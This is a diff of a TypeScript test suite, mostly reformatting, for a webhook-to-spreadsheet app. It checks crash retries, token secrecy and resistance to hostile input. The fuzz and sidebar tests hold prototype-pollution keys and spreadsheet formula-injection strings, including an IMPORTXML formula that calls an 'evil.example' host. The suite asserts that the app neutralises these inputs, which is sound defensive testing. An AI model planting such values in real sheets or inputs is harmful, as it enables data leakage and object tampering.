@@ -22,45 +22,65 @@ function callsOf(setup: (h: Harness) => void, body: unknown): number {
 describe('an execution that dies between two service calls', () => {
   const scenarios: Array<[string, (h: Harness) => void, () => unknown]> = [
     ['a new row', () => {}, () => payload('call-booked')],
-    ['an update of an existing row', (h) => h.post(payload('call-booked')), () => {
-      const p = payload('call-booked');
-      p[0].event.location = 'Zoom';
-      return p;
-    }],
-    ['a row written in two runs around a user column', (h) => {
-      h.post(payload('call-booked'));
-      h.asUser((spreadsheet) => {
-        const sheet = spreadsheet.getSheetByName('Call booked')!;
-        sheet.insertColumnsBefore(5, 1);
-        sheet.getRange(1, 5).setValue('Notes');
-      });
-    }, () => {
-      const p = payload('call-booked');
-      p[0].event.location = 'Zoom';
-      return p;
-    }],
-    ['an update whose fingerprint run comes before another run', (h) => {
-      h.post(payload('call-booked'));
-      h.post({ ...payload('call-booked')[0], extra: 'first' }); // "extra" gets a column after Fingerprint
-      h.asUser((spreadsheet) => {
-        const sheet = spreadsheet.getSheetByName('Call booked')!;
-        const header = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0].map(String);
-        const after = header.indexOf('Fingerprint') + 2;
-        sheet.insertColumnsBefore(after, 1);
-        sheet.getRange(1, after).setValue('Notes');
-      });
-    }, () => [{ ...payload('call-booked')[0], extra: 'second' }]],
-    ['a batch of three events with a new field', () => {}, () => [
-      { ...payload('call-booked')[0], extra: 'x' },
-      { ...payload('call-cancelled')[0], event: { ...payload('call-cancelled')[0].event, uuid: '777' } },
-      payload('outcome-added')[0],
-    ]],
+    [
+      'an update of an existing row',
+      (h) => h.post(payload('call-booked')),
+      () => {
+        const p = payload('call-booked');
+        p[0].event.location = 'Zoom';
+        return p;
+      },
+    ],
+    [
+      'a row written in two runs around a user column',
+      (h) => {
+        h.post(payload('call-booked'));
+        h.asUser((spreadsheet) => {
+          const sheet = spreadsheet.getSheetByName('Call booked')!;
+          sheet.insertColumnsBefore(5, 1);
+          sheet.getRange(1, 5).setValue('Notes');
+        });
+      },
+      () => {
+        const p = payload('call-booked');
+        p[0].event.location = 'Zoom';
+        return p;
+      },
+    ],
+    [
+      'an update whose fingerprint run comes before another run',
+      (h) => {
+        h.post(payload('call-booked'));
+        h.post({ ...payload('call-booked')[0], extra: 'first' }); // "extra" gets a column after Fingerprint
+        h.asUser((spreadsheet) => {
+          const sheet = spreadsheet.getSheetByName('Call booked')!;
+          const header = sheet.getRange(1, 1, 1, sheet.getLastColumn()).getValues()[0].map(String);
+          const after = header.indexOf('Fingerprint') + 2;
+          sheet.insertColumnsBefore(after, 1);
+          sheet.getRange(1, after).setValue('Notes');
+        });
+      },
+      () => [{ ...payload('call-booked')[0], extra: 'second' }],
+    ],
+    [
+      'a batch of three events with a new field',
+      () => {},
+      () => [
+        { ...payload('call-booked')[0], extra: 'x' },
+        { ...payload('call-cancelled')[0], event: { ...payload('call-cancelled')[0].event, uuid: '777' } },
+        payload('outcome-added')[0],
+      ],
+    ],
   ];
   it.each(scenarios)('%s: a retry after a crash at any call gives the same sheets as a clean run', (_name, setup, body) => {
     const reference = startApp();
     setup(reference);
     reference.post(body());
-    const expected = Object.fromEntries(['Call booked', 'Call cancelled', 'Call outcome added'].filter((n) => reference.sheetNames().includes(n)).map((n) => [n, withoutReceivedAt(reference.rows(n))]));
+    const expected = Object.fromEntries(
+      ['Call booked', 'Call cancelled', 'Call outcome added']
+        .filter((n) => reference.sheetNames().includes(n))
+        .map((n) => [n, withoutReceivedAt(reference.rows(n))]),
+    );
     const total = callsOf(setup, body());
     expect(total).toBeGreaterThan(10);
     for (let k = 0; k <= total; k += 1) {
@@ -104,8 +124,33 @@ describe('retries', () => {
 });
 
 describe('hostile and broken input', () => {
-  const specialKey = fc.constantFrom('__proto__', 'constructor', 'prototype', '', 'a.b', 'a[0]', 'toString', 'hookType', 'hasOwnProperty', ' ', '.');
-  const nasty = fc.constantFrom('=1+1', '+1 (555) 010', '-x', '@SUM(A1)', '\t=1', '\r=1', "'x", '=HYPERLINK("http://x","y")', '0012', 'TRUE', '1/2/2025', '#REF!');
+  const specialKey = fc.constantFrom(
+    '__proto__',
+    'constructor',
+    'prototype',
+    '',
+    'a.b',
+    'a[0]',
+    'toString',
+    'hookType',
+    'hasOwnProperty',
+    ' ',
+    '.',
+  );
+  const nasty = fc.constantFrom(
+    '=1+1',
+    '+1 (555) 010',
+    '-x',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    "'x",
+    '=HYPERLINK("http://x","y")',
+    '0012',
+    'TRUE',
+    '1/2/2025',
+    '#REF!',
+  );
   const text = fc.oneof(fc.string({ unit: 'binary', maxLength: 40 }), nasty, fc.constant('x'.repeat(60000)), fc.integer().map(String));
   const leaf = fc.oneof(text, fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.boolean(), fc.constant(null));
   const value: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
@@ -113,20 +158,35 @@ describe('hostile and broken input', () => {
     array: fc.array(tie('node'), { maxLength: 4 }),
     object: fc.dictionary(fc.oneof(specialKey, fc.string({ unit: 'binary', maxLength: 12 })), tie('node'), { maxKeys: 6 }),
   })).node;
-  const hookType = fc.oneof(fc.constantFrom('Call booked', 'call CANCELED', 'newContactCreated', 'Outcome added', 'Contact by status', 'Invoice paid'), fc.string({ maxLength: 10 }));
-  const event = fc.tuple(fc.dictionary(fc.oneof(specialKey, fc.string({ maxLength: 8 })), value, { maxKeys: 8 }), hookType).map(([o, ht]) => ({ ...o, hookType: ht }));
+  const hookType = fc.oneof(
+    fc.constantFrom('Call booked', 'call CANCELED', 'newContactCreated', 'Outcome added', 'Contact by status', 'Invoice paid'),
+    fc.string({ maxLength: 10 }),
+  );
+  const event = fc
+    .tuple(fc.dictionary(fc.oneof(specialKey, fc.string({ maxLength: 8 })), value, { maxKeys: 8 }), hookType)
+    .map(([o, ht]) => ({ ...o, hookType: ht }));
   // Built as text: JSON.stringify itself cannot go this deep.
   const deepBody = `[{"hookType":"Call booked","deep":${'['.repeat(5000)}1${']'.repeat(5000)}}]`;
   const body = fc.oneof(
     fc.array(event, { maxLength: 4 }).map((x) => JSON.stringify(x)),
     event.map((x) => JSON.stringify(x)),
     value.map((x) => JSON.stringify(x) ?? ''),
-    fc.tuple(fc.array(event, { minLength: 1, maxLength: 2 }), fc.nat()).map(([x, n]) => { const s = JSON.stringify(x); return s.slice(0, n % s.length); }),
+    fc.tuple(fc.array(event, { minLength: 1, maxLength: 2 }), fc.nat()).map(([x, n]) => {
+      const s = JSON.stringify(x);
+      return s.slice(0, n % s.length);
+    }),
     fc.string({ unit: 'binary', maxLength: 200 }),
     fc.constant(deepBody),
     fc.constant(JSON.stringify(Object.fromEntries(Array.from({ length: 400 }, (_, i) => [`field${i}`, i])))),
   );
-  const contentType = fc.constantFrom('application/json', 'text/plain', 'application/x-www-form-urlencoded', '', 'multipart/form-data; boundary=x', 'application/json; charset=utf-8');
+  const contentType = fc.constantFrom(
+    'application/json',
+    'text/plain',
+    'application/x-www-form-urlencoded',
+    '',
+    'multipart/form-data; boundary=x',
+    'application/json; charset=utf-8',
+  );
 
   it('never throws out, logs every authenticated body, writes no formula, pollutes no prototype, caps columns, keeps working', () => {
     const h = startApp();
@@ -141,7 +201,9 @@ describe('hostile and broken input', () => {
         expect(log).toHaveLength(before + 1);
         expect(allFormulas(h)).toEqual([]);
         expect(Object.keys(Object.prototype)).toEqual([]);
-        expect(vm.runInContext('Object.keys(Object.prototype).length + Object.keys(Array.prototype).length', h.app.context as vm.Context)).toBe(0);
+        expect(
+          vm.runInContext('Object.keys(Object.prototype).length + Object.keys(Array.prototype).length', h.app.context as vm.Context),
+        ).toBe(0);
         // At most 200 automatically added columns, beside the hook's own fields and the app's 4.
         for (const name of h.sheetNames()) {
           const header = h.header(name);
@@ -176,14 +238,25 @@ describe('the sidebar as an attack surface', () => {
     const h = startApp();
     h.asUser((spreadsheet) => {
       const sheet = spreadsheet.insertSheet('Budget');
-      sheet.getRange(1, 1, 2, 2).setValues([['Item', 'Cost'], ['Ads', 500]]);
+      sheet.getRange(1, 1, 2, 2).setValues([
+        ['Item', 'Cost'],
+        ['Ads', 500],
+      ]);
     });
-    expect(h.saveSettings({ hooks: { callBooked: { sheet: 'Budget' } } })).toEqual({ ok: false, error: expect.stringMatching(/"Budget" is one of your own sheets/) });
+    expect(h.saveSettings({ hooks: { callBooked: { sheet: 'Budget' } } })).toEqual({
+      ok: false,
+      error: expect.stringMatching(/"Budget" is one of your own sheets/),
+    });
     expect(h.rows('Budget')).toEqual([{ Item: 'Ads', Cost: 500 }]);
-    expect(h.saveSettings(JSON.parse('{"hooks":{"__proto__":{"mode":"append"}}}'))).toMatchObject({ ok: false, error: expect.stringMatching(/Unknown hook id "__proto__"/) });
+    expect(h.saveSettings(JSON.parse('{"hooks":{"__proto__":{"mode":"append"}}}'))).toMatchObject({
+      ok: false,
+      error: expect.stringMatching(/Unknown hook id "__proto__"/),
+    });
     expect(h.saveSettings(JSON.parse('{"__proto__":{"polluted":1},"hooks":{}}'))).toMatchObject({ ok: true });
     expect(vm.runInContext('({}).polluted', h.app.context as vm.Context)).toBeUndefined();
-    expect(h.saveSettings({ hooks: { callBooked: { columns: Array.from({ length: 1001 }, (_, i) => ({ field: `f${i}` })) } } })).toMatchObject({ ok: false });
+    expect(
+      h.saveSettings({ hooks: { callBooked: { columns: Array.from({ length: 1001 }, (_, i) => ({ field: `f${i}` })) } } }),
+    ).toMatchObject({ ok: false });
     const label = '=IMPORTXML("http://evil.example","//a")';
     expect(h.saveSettings({ hooks: { callBooked: { columns: [{ field: 'event.uuid', label }] } } })).toMatchObject({ ok: true });
     h.post(payload('call-booked'));
@@ -248,7 +321,8 @@ describe('secrets', () => {
     h.runtime.crashAfterCalls(5);
     answers.push(h.postRaw(payload('outcome-added')).body);
     // The token as a form field (curl --data-urlencode token=…), written and queued; and copies of it inside the body.
-    const form = (token: string, uuid: string) => `token=${token}&payload=${encodeURIComponent(JSON.stringify([{ ...payload('call-booked')[0], event: { ...payload('call-booked')[0].event, uuid } }]))}`;
+    const form = (token: string, uuid: string) =>
+      `token=${token}&payload=${encodeURIComponent(JSON.stringify([{ ...payload('call-booked')[0], event: { ...payload('call-booked')[0].event, uuid } }]))}`;
     const formType = 'application/x-www-form-urlencoded';
     answers.push(h.postRaw(form(h.token, 'f1'), { token: null, contentType: formType }).body);
     answers.push(h.postRaw(JSON.stringify([{ hookType: h.token, note: `see ${h.token}`, [h.token]: 1 }])).body);
@@ -260,7 +334,9 @@ describe('secrets', () => {
     h.app.call('trigger', 'processQueue');
     const rotated = h.app.call<any>('editor', 'rotateToken');
     answers.push(h.postRaw(payload('contact-created'), { token: rotated.token }).body);
-    answers.push(h.postRaw(JSON.stringify([{ ...payload('contact-created')[0], old: h.token, now: rotated.token }]), { token: rotated.token }).body);
+    answers.push(
+      h.postRaw(JSON.stringify([{ ...payload('contact-created')[0], old: h.token, now: rotated.token }]), { token: rotated.token }).body,
+    );
     const sheets = JSON.stringify(h.sheetNames().map((n) => h.runtime.peek(n)!.displayValues));
     const logs = JSON.stringify(h.runtime.logs);
     const properties = JSON.stringify(Object.entries(h.runtime.toJSON().properties.script).filter(([k]) => !k.startsWith('webhook.')));
